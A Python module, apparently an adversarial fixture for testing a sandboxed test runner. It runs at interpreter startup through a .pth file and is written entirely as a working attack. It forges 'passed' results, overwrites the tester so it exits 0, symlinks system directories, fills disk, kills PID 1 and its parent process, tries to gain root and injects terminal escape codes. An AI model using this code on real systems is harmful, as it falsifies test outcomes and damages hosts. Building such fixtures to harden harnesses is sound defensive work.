"""Runs when an environment's Python starts, by a .pth file: tries to fake results and do harm."""

import contextlib
import os
from pathlib import Path

FAKE = '{"environment":"hello","kind":"import","name":"not_there","outcome":"passed",'
FAKE += '"seconds":0,"message":""}\n'


def tries(attempt):
    with contextlib.suppress(BaseException):
        attempt()


def fake(place):
    place.mkdir(parents=True, exist_ok=True)
    tries(lambda: (place / "etc").symlink_to("/etc"))
    tries(lambda: (place / "receipts").symlink_to("/var/../root"))
    tries(lambda: os.mkfifo(place / "pipe"))
    with (place / "sparse").open("wb") as sparse:
        tries(lambda: sparse.truncate(3 << 30))
    with (place / "results.jsonl").open("a") as results:
        results.write(FAKE)


if not Path("/opt/tester").exists():
    raise ImportError("a build, which trusts its packages")
for place in ("/opt/test-results", "/tmp/test-results", "/opt/tester", "/opt/test-scratch"):
    tries(lambda place=place: fake(Path(place)))
tries(lambda: Path("/opt/tester/common-scripts/tester").write_text("raise SystemExit(0)\n"))
tries(lambda: Path("/opt/conda/envs/hello/not_there.py").write_text(""))
for process in (1, os.getppid()):
    tries(lambda process=process: os.kill(process, 9))
tries(lambda: os.setuid(0))
print("\x1b]52;c;aGFybQ==\x07\x1b[2Jpassed  hello: import not_there\r", flush=True)
